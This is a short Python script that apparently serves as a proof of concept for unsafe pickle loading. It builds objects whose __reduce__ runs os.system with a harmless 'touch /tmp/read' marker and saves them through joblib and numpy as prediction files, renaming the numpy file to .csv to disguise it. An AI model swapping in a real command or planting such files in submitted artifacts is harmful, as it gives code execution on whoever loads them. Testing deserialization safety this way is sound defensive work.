import os

import joblib
import numpy


class Runs:
    def __reduce__(self):
        return os.system, ('touch /tmp/read',)


joblib.dump(Runs(), 'predictions.joblib')
numpy.save('predictions.npy', numpy.array([Runs()]), allow_pickle=True)
os.rename('predictions.npy', 'predictions.csv')
